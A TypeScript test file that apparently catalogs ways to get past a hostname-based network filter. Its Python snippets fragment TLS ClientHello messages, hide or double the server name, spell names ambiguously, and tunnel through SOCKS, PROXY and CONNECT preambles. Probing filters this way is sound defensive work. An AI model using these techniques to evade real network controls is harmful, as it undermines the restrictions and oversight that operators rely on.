/** Y: names that are nearly listed, and forms in which a connection hides which one it is for (S31). */
import { BOTH, type Row } from "../frame/attack.ts";
import { LISTED, NEARLY, OTHER, PORT, volley } from "../means/own_machine.ts";
import { asks, HELLO, MINE, sends, THEIRS } from "./protocols.ts";

/** Python: more forms of the first message of TLS. */
const FORMS = `${HELLO}
def name(one, kind=0): return bytes([kind]) + struct.pack(">H", len(one)) + one
def names(*each): return ext(0, struct.pack(">H", sum(map(len, each))) + b"".join(each))
def bytewise(all): return [all[at:at + 1] for at in range(len(all))]
def slowly(host, port, *parts):
  import time
  with socket.create_connection((host, port)) as peer:
    peer.setsockopt(6, 1, 1)
    for one in parts:
      peer.sendall(one)
      time.sleep(0.001)
    print(peer.recv(100))
    to_the_end(peer)
def to_the_end(peer): # an end with answers that were not read would take back what the host has not read
  peer.shutdown(1)
  while peer.recv(100): pass
`;

/** A name in the first message of TLS, by an expression of Python. */
function asServer(name: string): string {
  return sends(`records(hello(tag, sni(${name})))`);
}

export const NETWORK_DISGUISES: readonly Row[] = [
  {
    id: "Y14",
    title: "take a ClientHello apart so that its name is not seen",
    users: BOTH,
    aim: "evidence",
    ways: {
      "records and segments": volley({
        "a record for each byte": sends(`records(hello(b"", sni(${THEIRS})), 1) + tag`),
        "a segment for each byte": `slowly("${LISTED}", 443, *bytewise(records(hello(b"", sni(${THEIRS})))), tag)`,
        "both": `slowly("${LISTED}", 443, *bytewise(records(hello(b"", sni(${THEIRS})), 3)), tag)`,
        "a name across two records": sends(
          `(lambda one: records(one[:70], 70) + records(one[70:]))(hello(tag, sni(${THEIRS})))`,
        ),
        "an empty record before": sends(`b"\\x16\\3\\1\\0\\0" + records(hello(tag, sni(${THEIRS})))`),
        "an empty record within": sends(
          `(lambda one: records(one[:9]) + b"\\x16\\3\\1\\0\\0" + records(one[9:]) + tag)(hello(b"", sni(${THEIRS})))`,
        ),
        "a change of ciphers within": sends(
          `(lambda one: records(one[:9]) + b"\\x14\\3\\3\\0\\1\\1" + records(one[9:]) + tag)(hello(b"", sni(${THEIRS})))`,
        ),
        "urgent bytes within": `
with socket.create_connection(("${LISTED}", 443)) as peer:
  all = records(hello(tag, sni(${THEIRS})))
  peer.sendall(all[:60])
  peer.send(b"!", 1)
  peer.sendall(all[60:])
  print(peer.recv(100))
  to_the_end(peer)`,
        "the end before its end": `
with socket.create_connection(("${LISTED}", 443)) as peer:
  peer.sendall(records(hello(tag, sni(${THEIRS})))[:-1])
  peer.shutdown(1)
  print(peer.recv(100))`,
      }, FORMS),
    },
  },
  {
    id: "Y15",
    title: "hide another name behind the listed one in a ClientHello",
    users: BOTH,
    aim: "evidence",
    ways: {
      "lists, lengths and types": volley({
        "another kind of name first": sends(`records(hello(tag, names(name(${MINE}, 1), name(${THEIRS}))))`),
        "another kind of name behind": sends(`records(hello(tag, names(name(${MINE}), name(${THEIRS}, 1))))`),
        "an empty name first": sends(`records(hello(tag, names(name(b""), name(${THEIRS}))))`),
        "a list that ends early": sends(
          `records(hello(tag, ext(0, struct.pack(">H", len(name(${MINE}))) + name(${MINE}) + name(${THEIRS}))))`,
        ),
        "a name that ends late": sends(
          `records(hello(tag, ext(0, struct.pack(">HBH", 99, 0, 96) + ${MINE}), sni(${THEIRS})))`,
        ),
        "an extension of no length": sends(`records(hello(tag, ext(0, b""), sni(${THEIRS})))`),
        "bytes behind the extensions": sends(`(lambda one: b"\\x16\\3\\1" + struct.pack(">H", len(one)) + one)(
  (lambda one: one[:1] + (len(one) + 6).to_bytes(3, "big")[-3:] + one[4:] + b"behind")(hello(tag, sni(${MINE}))))`),
        "an inner name, as RFC 9849 has it": sends(
          `records(hello(tag, sni(${MINE}), ext(0xfe0d, b"\\0\\0\\1\\0\\1\\7\\0\\40" + bytes(32) + b"\\0\\x90" + bytes(144))))`,
        ),
        "an inner name of earlier drafts": sends(`records(hello(tag, sni(${MINE}), ext(0xfe0a, bytes(200))))`),
        "an encrypted name": sends(`records(hello(tag, sni(${MINE}), ext(0xffce, bytes(200))))`),
        "a message of another kind before": sends(
          `(lambda one: records(b"\\0\\0\\0\\0" + one))(hello(tag, sni(${THEIRS})))`,
        ),
      }, FORMS),
    },
  },
  {
    id: "Y16",
    title: "write the name in TLS so that two programs read it differently",
    users: BOTH,
    aim: "evidence",
    ways: {
      "spellings": volley(
        Object.fromEntries([
          `${THEIRS}.upper()`,
          `${MINE} + b".other.test"`,
          `b"x" + ${MINE}`,
          `b"." + ${MINE}`,
          `${MINE} + b".."`,
          `${MINE} + b"\\0"`,
          `${MINE} + b"\\n" + ${THEIRS}`,
          `${MINE} + b" " + ${THEIRS}`,
          `${MINE} + b":443"`,
          `${MINE} + b"/" + ${THEIRS}`,
          `b"*.example.test"`,
          `b"user@" + ${MINE}`,
          `"n\u00e4med.example.test".encode()`,
          `"n\u0430med.example.test".encode()`,
          `"named.example.te\uff53t".encode()`,
          `b"xn--nmed-loa.example.test"`,
          `"${LISTED}".encode("utf-16-be")`,
          `b"8.8.1.1"`,
          `b"[2620:fe::fe]"`,
          `b"a." * 150 + ${MINE}`,
          `b"a" * 64 + b"." + ${MINE}`,
        ].map((name) => [name, asServer(name)])),
        FORMS,
      ),
    },
  },
  {
    id: "Y17",
    title: "look up and reach names that are nearly listed",
    users: BOTH,
    aim: "evidence",
    ways: {
      "names": volley({
        ...Object.fromEntries(NEARLY.map((host) => [host, `talk("${host}", ${PORT}, tag)`])),
        ...Object.fromEntries(
          NEARLY.slice(0, 4).map((host) => [`${host}, in capitals`, `talk("${host.toUpperCase()}", ${PORT}, tag)`]),
        ),
      }),
    },
  },
  {
    id: "Y18",
    title: "name another host to a listed one by a protocol of proxies",
    users: BOTH,
    aim: "evidence",
    ways: {
      "first words": volley({
        "SOCKS 5 over HTTP's port": sends(
          `b"\\5\\1\\0", b"\\5\\1\\0\\3\\22" + ${THEIRS} + b"\\1\\xbb" + tag + b"\\n\\n"`,
          80,
        ),
        "SOCKS 5 over that of TLS": sends(`b"\\5\\1\\0", b"\\5\\1\\0\\3\\22" + ${THEIRS} + b"\\1\\xbb" + tag`),
        "SOCKS 4": sends(`b"\\4\\1\\1\\xbb\\0\\0\\0\\1" + tag + b"\\0" + ${THEIRS} + b"\\0"`),
        "the line of a proxy before TLS": sends(
          `b"PROXY TCP4 8.8.2.2 8.8.2.2 1 443\\r\\n" + records(hello(tag, sni(${MINE})))`,
        ),
        "the same in bytes": sends(
          `b"\\r\\n\\r\\n\\0\\r\\nQUIT\\n\\x21\\x11\\0\\14" + bytes(12) + records(hello(tag, sni(${MINE})))`,
        ),
        "before a request": asks("PROXY TCP4 8.8.2.2 8.8.2.2 1 80\r\n", `GET /~ HTTP/1.1\r\nHost: ${LISTED}\r\n\r\n`),
        "a tunnel at the port of TLS": sends(
          `b"CONNECT ${OTHER}:443 HTTP/1.1\\r\\nHost: ${OTHER}\\r\\nX: " + tag + b"\\r\\n\\r\\n"`,
        ),
        "HTTP 2 there": sends(`b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes(9) + tag`),
        "TLS of another name at HTTP's port": sends(`records(hello(tag, sni(${THEIRS}))) + b"\\n\\n"`, 80),
        "TLS of another name at a free port": sends(`records(hello(tag, sni(${THEIRS})))`, PORT),
        "a database's words before TLS": sends(
          `b"\\0\\0\\0\\10\\4\\xd2\\x16\\x2f", records(hello(tag, sni(${THEIRS})))`,
        ),
      }, FORMS),
    },
  },
];
